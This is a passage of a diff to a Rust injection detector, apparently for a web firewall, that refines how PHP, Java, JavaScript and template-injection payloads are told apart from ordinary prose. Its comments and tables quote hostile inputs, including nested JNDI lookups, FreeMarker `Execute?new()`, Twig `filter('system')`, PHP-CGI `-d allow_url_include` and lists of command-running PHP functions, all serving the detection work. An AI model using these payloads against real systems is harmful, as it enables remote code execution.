@@ -5,8 +5,10 @@
 //! parameters, serialized objects), Node.js (`node-serialize` functions, `child_process`,
 //! prototype pollution, loops that never end) and Ruby, and server-side templates (Jinja2,
 //! Twig, ERB, EL expressions). The OWASP Core Rule Set's rules 933, 944 and 934 read the same
-//! things; what ordinary text holds (an exception's class name, `while (it) lasts`, a price in
-//! dollars) is read as text.
+//! things; what ordinary text holds (an exception's class name and a stack frame, `while (it)
+//! lasts`, `Dear $name (customer 12)`, a Markdown link, a manual page's `system(3)`) is read as
+//! text. Code of these languages pasted as text (a snippet, a tutorial) is not: an exclusion
+//! serves the fields that carry it.
 
 use super::decode::{byte_set, find_ci, find_either, find_in, is_word, starts_with_ci, Hit, Shape, WordTable};
 
@@ -44,6 +46,11 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
             return Some(hit);
         }
     }
+    if shape.has(const { Shape::mask(b";") }) && shape.has(const { Shape::mask(b"'\"$") }) {
+        if let Some(hit) = php_include(v, level) {
+            return Some(hit);
+        }
+    }
     if shape.has(const { Shape::mask(b"(") }) {
         if let Some(hit) = calls(v, level) {
             return Some(hit);
@@ -72,6 +79,13 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
             return Some(hit);
         }
     }
+    // FreeMarker builds any class it is named with `?new()` (`"freemarker.template.utility.Execute"?new()`,
+    // its name split to pass a filter; tester s1).
+    if shape.has(const { Shape::mask(b"?") }) {
+        if let Some(at) = find_ci(v, b"?new(", 0) {
+            return hit(1, at, at + 5, level);
+        }
+    }
     None
 }
 
@@ -83,33 +97,18 @@ fn hit(level: u8, start: usize, end: usize, max: u8) -> Option<Hit> {
 /// trailing dots and blanks are dropped by Windows and by some servers), or a PHP session
 /// file (`sess_<id>`: uploaded into the session directory it becomes someone's session).
 pub(crate) fn upload_name(v: &[u8], level: u8) -> Option<Hit> {
-    // Blanks inside the name are dropped by some servers (`shell. php`).
-    let squeezed: Vec<u8>;
-    let name = match v.iter().any(u8::is_ascii_whitespace) {
-        true => {
-            squeezed = v.iter().copied().filter(|b| !b.is_ascii_whitespace()).collect();
-            &squeezed[..]
+    let base = super::decode::upload_base_name(v);
+    let found = match base.iter().rposition(|&b| b == b'.') {
+        Some(dot) => {
+            let ext = &base[dot + 1..];
+            SCRIPT_EXTENSIONS.contains(ext) || (ext.starts_with(b"php") && ext[3..].iter().all(u8::is_ascii_digit))
         }
-        false => v,
+        None => false,
     };
-    let end = name.iter().rposition(|&b| b != b'.' && !b.is_ascii_whitespace()).map_or(0, |p| p + 1);
-    let name = &name[..end];
-    let base_at = name.iter().rposition(|&b| b == b'/' || b == b'\\').map_or(0, |p| p + 1);
-    let base = &name[base_at..];
-    let base_at = base_at.min(v.len());
-    if let Some(dot) = base.iter().rposition(|&b| b == b'.') {
-        let ext = &base[dot + 1..];
-        if SCRIPT_EXTENSIONS.contains(ext) || (starts_with_ci(ext, b"php") && ext[3..].iter().all(u8::is_ascii_digit)) {
-            return hit(1, base_at, v.len().min(base_at + 64), level);
-        }
-    }
-    let session = starts_with_ci(base, b"sess_")
+    let session = base.starts_with(b"sess_")
         && base.len() >= 5 + 20
         && base[5..].iter().all(|&b| b.is_ascii_alphanumeric() || b == b',' || b == b'-');
-    if session {
-        return hit(1, base_at, v.len().min(base_at + 64), level);
-    }
-    None
+    (found || session).then(|| Hit::new(1, 0, v.len().min(64))).filter(|h| h.level <= level)
 }
 
 /// Extensions a PHP or Java application server runs as code.
@@ -124,7 +123,8 @@ static SCRIPT_EXTENSIONS: WordTable<11> =
 /// prefix, lower-case; a name matches when it starts with one, at a word boundary.
 const JAVA_PACKAGES: &[&[u8]] = &[
     b"java.io.",
-    b"java.nio.",
+    b"java.nio.file.",
+    b"java.nio.channels.",
     b"java.net.",
     b"java.rmi.",
     b"java.beans.",
@@ -187,6 +187,9 @@ fn dotted_names(v: &[u8], full: bool, level: u8) -> Option<Hit> {
     fn name_byte(b: u8) -> bool {
         is_word(b) || b == b'.' || b == b'$'
     }
+    // Where a gadget is named in the value: looked for once, when a name first needs it (each
+    // `runtime.` had searched the whole value: `x.runtime ` repeated, 3.4 s; the review).
+    let mut gadget: Option<Option<(usize, usize)>> = None;
     let mut i = 0;
     while let Some(dot) = find_either(v, i, b'.', b'.') {
         let floor = i.max(dot.saturating_sub(256));
@@ -197,7 +200,7 @@ fn dotted_names(v: &[u8], full: bool, level: u8) -> Option<Hit> {
         if !name.first().is_some_and(u8::is_ascii_alphabetic) || !name[1..].iter().any(u8::is_ascii_alphabetic) {
             continue;
         }
-        if let Some(h) = java_name(v, at, end, level) {
+        if let Some(h) = java_name(v, at, end, level, &mut gadget) {
             return Some(h);
         }
         if full {
@@ -210,7 +213,12 @@ fn dotted_names(v: &[u8], full: bool, level: u8) -> Option<Hit> {
 }
 
 /// One dotted name, `v[at..end]`, read as the JVM's.
-fn java_name(v: &[u8], at: usize, end: usize, level: u8) -> Option<Hit> {
+fn java_name(v: &[u8], at: usize, end: usize, level: u8, gadget: &mut Option<Option<(usize, usize)>>) -> Option<Hit> {
+    // A JVM type descriptor (`Lcom.sun.rowset.JdbcRowSetImpl;`, fastjson's way to name a class).
+    let at = match v.get(at..at + 2) {
+        Some([b'L', b'a'..=b'z']) if v.get(end) == Some(&b';') => at + 1,
+        _ => at,
+    };
     let name = &v[at..end];
     let mut segments = name.split(|&b| b == b'.');
     let first = segments.next().unwrap_or(b"");
@@ -226,7 +234,8 @@ fn java_name(v: &[u8], at: usize, end: usize, level: u8) -> Option<Hit> {
     }
     // `Runtime` or `ProcessBuilder` named beside a gadget anywhere in the value.
     if name.split(|&b| b == b'.').any(|s| starts_with_ci(s, b"runtime") || starts_with_ci(s, b"processbuilder")) {
-        if let Some(g) = GADGETS.iter().find_map(|g| find_ci(v, g, 0).map(|p| (p, g.len()))) {
+        let found = *gadget.get_or_insert_with(|| GADGETS.iter().find_map(|g| find_ci(v, g, 0).map(|p| (p, g.len()))));
+        if let Some(g) = found {
             return hit(1, at.min(g.0), end.max(g.0 + g.1), level);
         }
     }
@@ -274,6 +283,7 @@ fn javascript_name(v: &[u8], at: usize, end: usize) -> Option<Hit> {
             || pair(b"process", b"binding")
             || pair(b"require", b"main")
             || pair(b"constructor", b"prototype")
+            || pair(b"constructor", b"constructor")
             || exports
         {
             return Some(Hit::new(1, at, end));
@@ -286,6 +296,9 @@ fn javascript_name(v: &[u8], at: usize, end: usize) -> Option<Hit> {
 /// What follows a method's name in a stack trace: `(Method.java:498)`, `(Native Method)`,
 /// `(Unknown Source)`.
 fn stack_frame(after: &[u8]) -> bool {
+    // A constructor's frame: `java.io.FileInputStream.<init>(FileInputStream.java:138)`.
+    let after = after.strip_prefix(b".").unwrap_or(after);
+    let after = after.strip_prefix(b"<init>").or_else(|| after.strip_prefix(b"<clinit>")).unwrap_or(after);
     let Some(inner) = after.strip_prefix(b"(") else { return false };
     let inner = &inner[..inner.iter().take(80).position(|&b| b == b')').unwrap_or(0)];
     inner == b"Native Method"
@@ -420,7 +433,11 @@ fn lookup(v: &[u8]) -> Option<Hit> {
         let inner = &v[at + 2..];
         let inner = inner.trim_ascii_start();
         let end = (at + 40).min(v.len());
-        if inner.starts_with(b"${") || LOOKUPS.iter().any(|l| starts_with_ci(inner, l)) {
+        // A lookup nested in the name (`${j${::-n}di:`, `${jndi${x:-:}ldap:`; tester s1): no
+        // template nests a placeholder inside a placeholder's name.
+        let name = &inner[..inner.iter().take(64).position(|&b| b == b'}' || b == b'$').unwrap_or(inner.len().min(64))];
+        let nested = inner.get(name.len()..name.len() + 2) == Some(b"${");
+        if inner.starts_with(b"${") || nested || LOOKUPS.iter().any(|l| starts_with_ci(inner, l)) {
             return Some(Hit::new(1, at, end));
         }
     }
@@ -533,9 +550,9 @@ fn php_variables(v: &[u8]) -> Option<Hit> {
             steps += 1;
         }
         let k = skip_blanks_and_comments(v, j);
-        // `$CAD (Canadian dollars)`, `$HOME (your home)`: a bare capitalised word and one blank
-        // is prose (obfuscated PHP names mix digits in: `$OOO0000O0 (16)`).
-        let prose = bare && steps == 0 && k == j + 1 && v[j] == b' ' && name.iter().all(u8::is_ascii_uppercase);
+        // `Dear $name (customer 1234)`, `$CAD (Canadian dollars)`: a bare name, a blank and an
+        // aside is prose; `$OOO0000O0 (16)` and `$a ('id')` are calls.
+        let prose = bare && steps == 0 && !called_as_code(&v[j..k.min(v.len())], v.get(k + 1..).unwrap_or(b""));
         if v.get(k) == Some(&b'(') && !prose {
             return Some(Hit::new(1, at, k + 1));
         }
@@ -564,44 +581,46 @@ fn closing(v: &[u8], open: usize) -> Option<usize> {
     None
 }
 
-/// Past blanks and `/* */`, `#` and `//` comments (each to its end or the line's).
-fn skip_blanks_and_comments(v: &[u8], mut j: usize) -> usize {
+/// How far a gap of blanks and comments is followed, either way: each opener of a value
+/// follows its own, so an unbounded one reads the square of a value of unclosed `/*` (the
+/// review: `$/*` repeated over 64 KiB, 1 s).
+const GAP: usize = 256;
+
+/// Past blanks and `/* */`, `#` and `//` comments (each to its end or the line's), within
+/// [`GAP`] bytes: the end of the value when the gap goes on past them.
+fn skip_blanks_and_comments(v: &[u8], from: usize) -> usize {
+    let w = &v[..v.len().min(from + GAP)];
+    let mut j = from;
     loop {
-        while v.get(j).is_some_and(u8::is_ascii_whitespace) {
+        while w.get(j).is_some_and(u8::is_ascii_whitespace) {
             j += 1;
         }
-        match (v.get(j), v.get(j + 1)) {
-            (Some(b'/'), Some(b'*')) => match find_either(v, j + 2, b'*', b'*').and_then(|s| {
-                let mut s = s;
-                while s + 1 < v.len() && v[s + 1] != b'/' {
-                    s = find_either(v, s + 1, b'*', b'*')?;
-                }
-                (s + 1 < v.len()).then_some(s + 2)
-            }) {
-                Some(end) => j = end,
-                None => return v.len(),
-            },
-            (Some(b'#'), _) | (Some(b'/'), Some(b'/')) => match v[j..].iter().position(|&b| b == b'\n') {
-                Some(p) => j += p + 1,
-                None => return v.len(),
-            },
+        let end = match (w.get(j), w.get(j + 1)) {
+            (None, _) => return v.len(),
+            (Some(b'/'), Some(b'*')) => w[j + 2..].windows(2).position(|p| p == b"*/").map(|p| j + 2 + p + 2),
+            (Some(b'#'), _) | (Some(b'/'), Some(b'/')) => w[j..].iter().position(|&b| b == b'\n').map(|p| j + p + 1),
             _ => return j,
+        };
+        match end {
+            Some(end) => j = end,
+            None => return v.len(),
         }
     }
 }
 
-/// Blanks and comments going back from `j` (exclusive): the index just past the last byte
-/// before them.
+/// Blanks and comments going back from `j` (exclusive), within [`GAP`] bytes: the index just
+/// past the last byte before them.
 fn skip_blanks_back(v: &[u8], mut j: usize) -> usize {
+    let floor = j.saturating_sub(GAP);
     loop {
         let mut newline = false;
-        while j > 0 && v[j - 1].is_ascii_whitespace() {
+        while j > floor && v[j - 1].is_ascii_whitespace() {
             newline |= v[j - 1] == b'\n';
             j -= 1;
         }
         // Past a line break, the line before may end in a `#` or `//` comment.
         if newline {
-            let line_start = v[..j].iter().rposition(|&b| b == b'\n').map_or(0, |p| p + 1);
+            let line_start = v[floor..j].iter().rposition(|&b| b == b'\n').map_or(floor, |p| floor + p + 1);
             let line = &v[line_start..j];
             let comment = line.iter().position(|&b| b == b'#').or_else(|| line.windows(2).position(|w| w == b"//"));
             if let Some(c) = comment {
@@ -609,9 +628,9 @@ fn skip_blanks_back(v: &[u8], mut j: usize) -> usize {
                 continue;
             }
         }
-        if j >= 2 && v[j - 1] == b'/' && v[j - 2] == b'*' {
-            match v[..j - 2].windows(2).rposition(|w| w == b"/*") {
-                Some(p) => j = p,
+        if j >= floor + 2 && v[j - 1] == b'/' && v[j - 2] == b'*' {
+            match v[floor..j - 2].windows(2).rposition(|w| w == b"/*") {
+                Some(p) => j = floor + p,
                 None => return j,
             }
             continue;
@@ -621,9 +640,15 @@ fn skip_blanks_back(v: &[u8], mut j: usize) -> usize {
 }
 
 /// PHP functions that run commands, evaluate or load code, or decode a payload; what PHP web
-/// shells and CRS's rules 933150 and 933160 name. Written so no English word or common
-/// identifier of another language is among them.
-static PHP_FUNCTIONS: WordTable<69> = WordTable::new(&[
+/// shells and CRS's rules 933150 and 933160 name; no English word among them (those are
+/// [`PHP_PLAIN_FUNCTIONS`]). Some are C's and other languages' too (`fopen`, `getenv`, `chmod`):
+/// a method call (`os.getenv(`) is no PHP, a function call in a C or Python snippet reads as one.
+static PHP_FUNCTIONS: WordTable<74> = WordTable::new(&[
+    b"call_user_func_a",
+    b"preg_replace_cal",
+    b"array_walk_recur",
+    b"mb_ereg_replace_",
+    b"set_exception_ha",
     b"bzdecompress",
     b"zlib_decode",
     b"curl_init",
@@ -713,24 +738,27 @@ static PHP_PLAIN_FUNCTIONS: WordTable<10> = WordTable::new(&[
 
 /// A PHP function (16 bytes of its name at most: the tables hold longer names cut there).
 fn php_function(w: &[u8]) -> bool {
-    PHP_FUNCTIONS.contains(&w[..w.len().min(16)]) || (w.len() > 6 && starts_with_ci(w, b"posix_"))
+    // PHP's `posix_` functions, not C's (`posix_fallocate`, `posix_memalign`, `posix_spawn`).
+    const POSIX: [&[u8]; 6] =
+        [b"posix_get", b"posix_set", b"posix_kill", b"posix_mkfifo", b"posix_uname", b"posix_times"];
+    PHP_FUNCTIONS.contains(&w[..w.len().min(16)]) || POSIX.iter().any(|p| starts_with_ci(w, p))
 }
 
-/// Calls: a PHP function by name (after any prefix: `FOOcall_user_func()` is read as PHP's
-/// parser... no: as CRS reads it, since a prefix can be a comment PHP drops), by a quoted or
-/// concatenated name (`"sys"."tem"('id')`), or through a parenthesised name or variable
-/// (`(system)('id')`, `($y)('id')`, `(['system'])[0]('id')`); Ruby's `Process.spawn(`;
-/// a JavaScript loop whose condition is always true (`while(!0)`), which blocks Node.js's one
-/// thread.
+/// Calls, when written as code ([`called_as_code`]): a PHP function by name, with a prefix
+/// glued on too (`FOOcall_user_func()`, as CRS reads it: what precedes may be anything a filter
+/// does not read as a word), by a quoted or joined name (`"sys"."tem"('id')`), or through a
+/// bracketed name or variable (`(system)('id')`, `($y)('id')`, `(['system'])[0]('id')`);
+/// Ruby's `Process.spawn(`; a JavaScript loop that never ends (`while(!0)`, `for(;;)`), which
+/// blocks Node.js's one thread.
 fn calls(v: &[u8], level: u8) -> Option<Hit> {
     let mut i = 0;
     while let Some(open) = find_either(v, i, b'(', b'(') {
         i = open + 1;
         let before = skip_blanks_back(v, open);
-        let gap = &v[before..open];
-        if before == 0 {
+        if before == 0 || stack_frame(&v[open..]) || link(&v[open + 1..]) {
             continue;
         }
+        let code = called_as_code(&v[before..open], &v[open + 1..]);
         let last = v[before - 1];
         if is_word(last) {
             let start = v[..before].iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
@@ -741,23 +769,46 @@ fn calls(v: &[u8], level: u8) -> Option<Hit> {
                     return hit(1, h.0, h.1, level);
                 }
             }
-            if word.eq_ignore_ascii_case(b"while") {
+            if word.eq_ignore_ascii_case(b"while") || word.eq_ignore_ascii_case(b"for") {
                 if let Some(end) = endless_loop(v, open) {
                     return hit(1, start, end, level);
                 }
                 continue;
             }
-            let plain_gap = gap.len() != 1 || gap.iter().any(|&b| matches!(b, b'\t' | b'\n' | b'\r' | b'/' | b'#'));
-            if PHP_PLAIN_FUNCTIONS.contains(word) && plain_gap && !plural(v, open) {
+            // A method of another language's object (`subprocess.Popen(`, `os.getenv(`,
+            // `/re/.exec(`): PHP calls methods with `->`. A manual page's section (`system(3)`,
+            // `chmod(1)`) is a reference in text.
+            let method = start > 0 && v[start - 1] == b'.';
+            if !code || plural(v, open) || method || man_section(&v[open + 1..]) {
+                continue;
+            }
+            // An English word as a function: not named bare with nothing to run (`exec()` is
+            // named in prose too; `FILE\r\n()` is no prose).
+            let named_only = before == open && v.get(open + 1) == Some(&b')');
+            if PHP_PLAIN_FUNCTIONS.contains(word) && !named_only {
                 return hit(1, start, open + 1, level);
             }
-            // A name with a prefix glued on (`FOOcall_user_func()`): any suffix that is one.
-            let lower_start = start.max(before.saturating_sub(24));
-            if (lower_start..before.saturating_sub(4)).any(|s| php_function(&v[s..before]))
-                || (before - start >= 5 && php_function(&v[start..before]))
-            {
+            // A name with a prefix glued on (`FOOcall_user_func()`): any suffix that is one, but
+            // not another identifier ending in one (`add_passthru(`).
+            let lower_start = start.max(before.saturating_sub(32));
+            let glued = (lower_start..before.saturating_sub(4))
+                .any(|s| (s == start || v[s - 1] != b'_') && php_function(&v[s..before]));
+            if glued || (before - start >= 5 && php_function(&v[start..before])) {
                 return hit(1, start, open + 1, level);
             }
+            continue;
+        }
+        // A chain of brackets before a parenthesis (`[ system ] [ 0 ] ( ls )`) is code however
+        // it is spaced.
+        if matches!(last, b')' | b']' | b'}') {
+            if let Some((s, groups)) = called_group(v, before) {
+                if code || groups >= 2 {
+                    return hit(1, s, open + 1, level);
+                }
+            }
+            continue;
+        }
+        if !code {
             continue;
         }
         if matches!(last, b'"' | b'\'') {
@@ -769,10 +820,53 @@ fn calls(v: &[u8], level: u8) -> Option<Hit> {
             }
             continue;
         }
-        if matches!(last, b')' | b']' | b'}') {
-            if let Some(s) = called_group(v, before) {
-                return hit(1, s, open + 1, level);
+    }
+    None
+}
+
+/// PHP's `include` and `require` (and `_once`), which take no parentheses, as a statement: the
+/// word, a quoted path or a variable, and `;` (`include 'uploads/x.jpg';`,
+/// `require_once $_GET['p'];`); `please include 'urgent' in the subject` is prose.
+fn php_include(v: &[u8], level: u8) -> Option<Hit> {
+    for keyword in [&b"include"[..], b"require"] {
+        let mut i = 0;
+        while let Some(at) = find_ci(v, keyword, i) {
+            i = at + 1;
+            if let Some(h) = php_include_at(v, at, level) {
+                return Some(h);
             }
+        }
+    }
+    None
+}
+
+fn php_include_at(v: &[u8], at: usize, level: u8) -> Option<Hit> {
+    {
+        let word_len = v[at..].iter().take_while(|&&b| is_word(b)).count();
+        let word = &v[at..at + word_len];
+        let known = [&b"include"[..], b"require", b"include_once", b"require_once"]
+            .iter()
+            .any(|w| word.eq_ignore_ascii_case(w));
+        if !known || (at > 0 && (is_word(v[at - 1]) || v[at - 1] == b'.')) {
+            return None;
+        }
+        let rest = skip_blanks_and_comments(v, at + word_len);
+        let operand_end = match v.get(rest) {
+            Some(&q @ (b'\'' | b'"')) => v[rest + 1..].iter().take(256).position(|&b| b == q).map(|p| rest + 1 + p + 1),
+            Some(b'$') => Some(
+                rest + 1
+                    + v[rest + 1..]
+                        .iter()
+                        .take(64)
+                        .take_while(|&&b| is_word(b) || matches!(b, b'[' | b']' | b'\'' | b'"'))
+                        .count(),
+            ),
+            _ => None,
+        };
+        let end = operand_end?;
+        let after = skip_blanks_and_comments(v, end);
+        if v.get(after) == Some(&b';') || (after >= v.len() && v.get(rest) == Some(&b'$')) {
+            return hit(1, at, end, level);
         }
     }
     None
@@ -813,6 +907,38 @@ fn concatenated_function(v: &[u8], level: u8) -> Option<Hit> {
         i = i.max(end);
     }
     None
+}
+
+/// Whether a name, the `gap` after it and the `args` after the parenthesis read as a call in
+/// code rather than a word and an aside in prose: nothing between (`system(`), a tab, a line
+/// break, a comment or more than one blank (what an evasion puts there), or one blank before an
+/// argument only code opens with: a quote, `$`, a backtick, `)`, or a number alone
+/// (`system ('id')`, `$OOO0000O0 (16)`; not `Select 'File' (top left)`, `Dear $name
+/// (customer 1234)`, `The (file) (PDF, max 5MB)`).
+fn called_as_code(gap: &[u8], args: &[u8]) -> bool {
+    if gap.len() != 1 || gap.iter().any(|&b| matches!(b, b'\t' | b'\n' | b'\r' | b'/' | b'#')) {
+        return true;
+    }
+    let args = args.trim_ascii_start();
+    match args.first() {
+        Some(b'\'' | b'"' | b'$' | b'`' | b')') => true,
+        Some(b) if b.is_ascii_digit() => {
+            let n = args.iter().take_while(|b| b.is_ascii_digit()).count();
+            matches!(args[n..].trim_ascii_start().first(), Some(b')' | b','))
+        }
+        _ => false,
+    }
+}
+
+/// `(3)`, `(1p)`, `(8)`: a manual page's section after a name.
+fn man_section(args: &[u8]) -> bool {
+    matches!(args, [b'1'..=b'9', b')', ..] | [b'1'..=b'9', b'a'..=b'z', b')', ..])
+}
+
+/// A Markdown link's target after its text (`[upload a file](https://...)`): no call.
+fn link(args: &[u8]) -> bool {
+    let args = args.trim_ascii_start();
+    [&b"http://"[..], b"https://", b"mailto:", b"/", b"#", b"./", b"../"].iter().any(|p| starts_with_ci(args, p))
 }
 
 /// `system(s)`: a plural in prose.
@@ -858,9 +984,10 @@ fn concatenated_name(v: &[u8], end: usize) -> Option<(usize, Vec<u8>)> {
 /// A parenthesised or indexed expression just before a call, ending before `end`
 /// (`(system)`, `($y)`, `(['system'])[0]`, `(/* c */ system)`): where it starts, when what it
 /// names is a variable or a PHP function, bare or quoted.
-fn called_group(v: &[u8], end: usize) -> Option<usize> {
+fn called_group(v: &[u8], end: usize) -> Option<(usize, usize)> {
     let mut j = end;
     let mut start = end;
+    let mut groups = 0;
     for _ in 0..4 {
         let Some(close) = j.checked_sub(1) else { break };
         let o = match v[close] {
@@ -884,12 +1011,32 @@ fn called_group(v: &[u8], end: usize) -> Option<usize> {
             }
         }
         start = open?;
+        groups += 1;
         j = skip_blanks_back(v, start);
     }
     let group = &v[start..end];
+    // Words one after another inside a bracket (`[upload a file]`, `(in the system)`) are prose.
+    for piece in group.split(|b| b"()[]{}".contains(b)) {
+        // 1: just after a word; 2: a word, then blanks.
+        let mut state = 0;
+        let mut i = 0;
+        while i < piece.len() {
+            let b = piece[i];
+            if b.is_ascii_alphabetic() {
+                if state == 2 {
+                    return None;
+                }
+                i += piece[i..].iter().take_while(|&&x| is_word(x)).count();
+                state = 1;
+                continue;
+            }
+            state = if b.is_ascii_whitespace() && state != 0 { 2 } else { 0 };
+            i += 1;
+        }
+    }
     // A variable: `($y)`.
     if group.windows(2).any(|w| w[0] == b'$' && (w[1] == b'_' || w[1].is_ascii_alphabetic())) {
-        return Some(start);
+        return Some((start, groups));
     }
     // Every word and quoted (joined) name in it.
     let mut k = 0;
@@ -899,14 +1046,14 @@ fn called_group(v: &[u8], end: usize) -> Option<usize> {
             let close = group[k + 1..].iter().position(|&x| x == b)? + k + 1;
             let name = group[k + 1..close].trim_ascii();
             if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
-                return Some(start);
+                return Some((start, groups));
             }
             k = close + 1;
         } else if is_word(b) {
             let n = group[k..].iter().take_while(|&&x| is_word(x)).count();
             let w = &group[k..k + n];
             if php_function(w) || PHP_PLAIN_FUNCTIONS.contains(w) {
-                return Some(start);
+                return Some((start, groups));
             }
             k += n;
         } else {
@@ -939,6 +1086,10 @@ fn ruby_call(v: &[u8], method_start: usize, method_end: usize, open: usize) -> O
 fn endless_loop(v: &[u8], open: usize) -> Option<usize> {
     let close = closing(v, open)?;
     let mut cond = &v[open + 1..close];
+    // `for(;;)`: no condition is always true.
+    if cond.iter().all(|&b| b == b';' || b.is_ascii_whitespace()) && cond.iter().filter(|&&b| b == b';').count() == 2 {
+        return Some(close + 1);
+    }
     // Parentheses around it: `while((true))`.
     while let Some(inner) = cond.trim_ascii().strip_prefix(b"(").and_then(|c| c.strip_suffix(b")")) {
         cond = inner;
@@ -1028,12 +1179,10 @@ fn php_directive(v: &[u8], level: u8) -> Option<Hit> {
     const SECTIONS: &[&[u8]] = &[
         b"opcache.",
         b"mbstring.",
-        b"session.",
         b"pcre.",
         b"zend.",
         b"assert.",
         b"phar.",
-        b"mail.",
         b"cgi.",
         b"xdebug.",
         b"apc.",
@@ -1042,23 +1191,66 @@ fn php_directive(v: &[u8], level: u8) -> Option<Hit> {
         b"unserialize_",
         b"realpath_cache",
     ];
-    let name_end = v.iter().take(64).position(|&b| b == b'=' || b.is_ascii_whitespace())?;
-    let name = &v[..name_end];
-    let after = v[name_end..].trim_ascii_start();
-    if name.is_empty() || after.first() != Some(&b'=') {
-        return None;
+    /// `session.` and `mail.` directives PHP reads; JavaMail's `mail.smtp.host` and an app's
+    /// `session.timeout` are not among them.
+    const SESSION_OR_MAIL: &[&[u8]] = &[
+        b"session.save_",
+        b"session.upload_progress",
+        b"session.serialize_handler",
+        b"session.use_trans_sid",
+        b"session.auto_start",
+        b"mail.log",
+        b"mail.add_x_header",
+        b"mail.force_extra_parameters",
+    ];
+    let directive = |at: usize| -> Option<Hit> {
+        let rest = &v[at..];
+        let name_end = rest.iter().take(64).position(|&b| b == b'=' || b.is_ascii_whitespace())?;
+        let name = &rest[..name_end];
+        let after = rest[name_end..].trim_ascii_start();
+        if name.is_empty() || after.first() != Some(&b'=') || !name.iter().all(|&b| is_word(b) || b == b'.') {
+            return None;
+        }
+        if DIRECTIVES.contains(&name[..name.len().min(16)])
+            || SECTIONS.iter().any(|s| starts_with_ci(name, s) && name.len() > s.len())
+            || SESSION_OR_MAIL.iter().any(|s| starts_with_ci(name, s))
+        {
+            return hit(1, at, at + name_end + 1, level);
+        }
+        // Plain words among the directives: from 2.
+        if name.eq_ignore_ascii_case(b"smtp") || name.eq_ignore_ascii_case(b"extension") {
+            return hit(2, at, at + name_end + 1, level);
+        }
+        None
+    };
+    // Where a directive can start: the value's first line, each line after (a `PHP_VALUE` or a
+    // `.user.ini` holds several), past blanks, and after PHP-CGI's `-d` (CVE-2012-1823 and, with
+    // the soft hyphen Windows reads as `-`, CVE-2024-4577: `?%ADd+allow_url_include%3d1`).
+    let mut line = 0;
+    loop {
+        let at = line + v[line..].iter().take_while(|b| b.is_ascii_whitespace()).count();
+        if at < v.len() {
+            if let Some(h) = directive(at) {
+                return Some(h);
+            }
+        }
+        match find_either(v, line, b'\n', b'\n') {
+            Some(nl) => line = nl + 1,
+            None => break,
+        }
     }
-    if !name.iter().all(|&b| is_word(b) || b == b'.') {
-        return None;
-    }
-    if DIRECTIVES.contains(&name[..name.len().min(16)])
-        || SECTIONS.iter().any(|s| starts_with_ci(name, s) && name.len() > s.len())
-    {
-        return hit(1, 0, name_end + 1, level);
-    }
-    // Plain words among the directives: from 2.
-    if name.eq_ignore_ascii_case(b"smtp") || name.eq_ignore_ascii_case(b"extension") {
-        return hit(2, 0, name_end + 1, level);
+    let mut i = 0;
+    while let Some(d) = find_either(v, i, b'd', b'D') {
+        i = d + 1;
+        let dash =
+            d > 0 && matches!(v[d - 1], b'-' | 0xad) && (d == 1 || v[d - 2].is_ascii_whitespace() || v[d - 2] == 0xc2);
+        if !dash {
+            continue;
+        }
+        let at = d + 1 + v[d + 1..].iter().take(8).take_while(|b| b.is_ascii_whitespace()).count();
+        if let Some(h) = directive(at).filter(|_| at < v.len()) {
+            return Some(h);
+        }
     }
     None
 }
@@ -1089,7 +1281,16 @@ fn javascript(v: &[u8], shape: Shape) -> Option<Hit> {
             let before = &v[..open];
             let word_at = before.iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
             let word = &before[word_at..];
-            if word.eq_ignore_ascii_case(b"process") || word.eq_ignore_ascii_case(b"require") {
+            // Reached by a quoted or computed name, or `process[mainModule`: a Rails or PHP form's
+            // `process[status]` is a field of a model called Process.
+            let index = &v[open + 1..];
+            let index_word = &index[..index.iter().take_while(|&&b| is_word(b)).count()];
+            let computed = matches!(index.first(), Some(b'\'' | b'"' | b'`'))
+                || index.get(index_word.len()) == Some(&b'.')
+                || [&b"mainmodule"[..], b"binding", b"dlopen", b"_linkedbinding"]
+                    .iter()
+                    .any(|w| index_word.eq_ignore_ascii_case(w));
+            if (word.eq_ignore_ascii_case(b"process") || word.eq_ignore_ascii_case(b"require")) && computed {
                 return Some(Hit::new(1, word_at, open + 1));
             }
             let inner = v[open + 1..]
@@ -1134,7 +1335,7 @@ fn template(v: &[u8], level: u8) -> Option<Hit> {
                 if let Some(end) = erb_end.at_or_after(v, at + 1).filter(|&e| e - at <= 512) {
                     let inner = &v[at + 1..end];
                     let inner = inner.strip_prefix(b"=").unwrap_or(inner);
-                    if inner.contains(&b'(') || inner.contains(&b'`') || arithmetic(inner) {
+                    if inner.contains(&b'(') || inner.contains(&b'`') || arithmetic(inner) || ruby_command(inner) {
                         return Some(Hit::new(1, at - 1, end + 2));
                     }
                 }
@@ -1145,7 +1346,10 @@ fn template(v: &[u8], level: u8) -> Option<Hit> {
         if prev == Some(b'#') {
             if let Some(close) = closing(v, at) {
                 let inner = &v[at + 1..close];
-                if (inner.contains(&b'(') && inner.iter().any(u8::is_ascii_alphabetic)) || arithmetic(inner) {
+                if (inner.contains(&b'(') && inner.iter().any(u8::is_ascii_alphabetic))
+                    || arithmetic(inner)
+                    || ruby_command(inner)
+                {
                     return Some(Hit::new(1, at - 1, close + 1));
                 }
             }
@@ -1160,7 +1364,7 @@ fn template(v: &[u8], level: u8) -> Option<Hit> {
                     && [&b"__class__"[..], b"__globals__", b"__builtins__", b"__subclasses__", b"__mro__", b"__init__"]
                         .iter()
                         .any(|m| find_ci(inner, m, 0).is_some());
-                if arithmetic || internals || starts_with_ci(inner, b"_self.env") {
+                if arithmetic || internals || starts_with_ci(inner, b"_self.env") || twig_callable(inner) {
                     return Some(Hit::new(1, at, end + 2));
                 }
             }
@@ -1207,11 +1411,49 @@ impl NextPair {
     }
 }
 
-/// A template probe's arithmetic: numbers and operators only (`7*7`, `'7'*7`).
+/// Twig's filters that call what they are given: `{{['id']|filter('system')}}`,
+/// `{{['id']|map('passthru')}}`, `{{[0]|reduce('system','id')}}`, `{{['id','']|sort('system')}}`.
+fn twig_callable(inner: &[u8]) -> bool {
+    let mut i = 0;
+    while let Some(bar) = find_either(inner, i, b'|', b'|') {
+        i = bar + 1;
+        let rest = inner[bar + 1..].trim_ascii_start();
+        const FILTERS: [&[u8]; 4] = [b"filter", b"map", b"reduce", b"sort"];
+        let Some(filter) = FILTERS.iter().find(|f| starts_with_ci(rest, f)) else {
+            continue;
+        };
